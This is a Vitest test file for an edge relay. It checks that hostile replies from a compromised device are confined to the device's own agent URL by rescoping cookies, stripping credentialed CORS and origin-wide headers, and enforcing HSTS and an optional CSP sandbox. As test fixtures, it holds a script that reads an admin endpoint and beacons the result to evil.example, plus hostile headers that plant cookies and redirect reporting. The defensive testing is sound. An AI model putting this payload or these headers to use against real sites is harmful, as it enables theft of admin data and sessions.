/**
 * A compromised device (or its local service) answers agent requests with whatever it likes:
 * HTML with a script, cookies for the whole origin or another path and domain, credentialed
 * CORS for a site of its own, its own security policy, and headers that act on the whole
 * origin. The edge relays its content but confines it to the device's own agent URL.
 */
import { describe, expect, it } from "vitest";
import type { MessageOf } from "../../protocol/index.ts";
import { admin, callerFetch, connectedDevices, type TestDevice } from "./helpers.ts";

const HOSTILE: [string, string][] = [
  ["content-type", "text/html"],
  ["set-cookie", "session=evil; Path=/"],
  ["set-cookie", "x=1; Domain=localhost; Path=/admin"],
  ["set-cookie", "__Host-console=stolen; Path=/; Secure"],
  ["set-cookie", "pref=dark; Max-Age=3600; HttpOnly; SameSite=Lax; Partitioned; Priority=High"],
  ["access-control-allow-origin", "https://evil.example"],
  ["access-control-allow-credentials", "true"],
  ["content-security-policy", "script-src 'unsafe-inline'"],
  ["x-content-type-options", "sniff-please"],
  ["strict-transport-security", "max-age=0"],
  ["clear-site-data", '"cookies", "storage"'],
  ["service-worker-allowed", "/"],
  ["nel", '{"report_to":"evil","max_age":31536000}'],
  ["report-to", '{"group":"evil","max_age":31536000,"endpoints":[{"url":"https://evil.example/r"}]}'],
  ["reporting-endpoints", 'evil="https://evil.example/r"'],
  ["alt-svc", 'h3="evil.example:443"'],
];
const PAGE =
  "<script>fetch('/admin/imps',{credentials:'include'}).then(r=>r.text()).then(t=>navigator.sendBeacon('https://evil.example',t))</script>";

function serveHostile(device: TestDevice): void {
  device.serve((_req: MessageOf<"req">) => ({ status: 200, headers: HOSTILE, body: PAGE }));
}

describe("a hostile device's reply", () => {
  const { online } = connectedDevices();

  it("keeps its content but none of its reach beyond its own agent URL", async () => {
    const { imp, device } = await online();
    serveHostile(device);
    const res = await callerFetch(imp, "/page");
    expect(res.status).toBe(200);
    expect(await res.text()).toBe(PAGE);
    const agentPath = new URL(imp.agentUrl).pathname;

    // Cookies: host-only, and under this agent URL's path only; a __Host- cookie cannot be confined, so it is dropped.
    expect(res.headers.getSetCookie()).toEqual([
      `session=evil; Path=${agentPath}/`,
      `x=1; Path=${agentPath}/admin`,
      `pref=dark; Path=${agentPath}/; max-age=3600; httponly; samesite=Lax`,
    ]);
    for (const cookie of res.headers.getSetCookie()) expect(cookie).not.toMatch(/domain|partitioned|priority/i);

    // No credentialed cross-origin reads granted by the device.
    expect(res.headers.get("access-control-allow-credentials")).toBeNull();
    // The edge's own transport and sniffing policy, whatever the device said.
    expect(res.headers.get("x-content-type-options")).toBe("nosniff");
    expect(res.headers.get("strict-transport-security")).toBe("max-age=63072000; includeSubDomains");
    // Nothing that acts on the whole origin every agent URL shares.
    for (const name of ["clear-site-data", "service-worker-allowed", "nel", "report-to", "reporting-endpoints", "alt-svc"]) {
      expect(res.headers.get(name), name).toBeNull();
    }
    // Its own policy may only restrict its own page: kept.
    expect(res.headers.get("content-security-policy")).toBe("script-src 'unsafe-inline'");
  });

  it("is shown sandboxed once the operator turns on --csp-sandbox", async () => {
    const { imp, device } = await online();
    serveHostile(device);
    const set = await admin(`/imps/${imp.impId}`, { method: "PATCH", body: JSON.stringify({ cspSandbox: true }) });
    expect((await set.json<{ cspSandbox: boolean }>()).cspSandbox).toBe(true);
    const res = await callerFetch(imp, "/page");
    // Both policies apply; `sandbox` gives the page an opaque origin with scripts and forms off.
    expect(res.headers.get("content-security-policy")).toBe("script-src 'unsafe-inline', sandbox");

    await admin(`/imps/${imp.impId}`, { method: "PATCH", body: JSON.stringify({ cspSandbox: false }) });
    expect((await callerFetch(imp, "/page")).headers.get("content-security-policy")).toBe("script-src 'unsafe-inline'");
  });
});
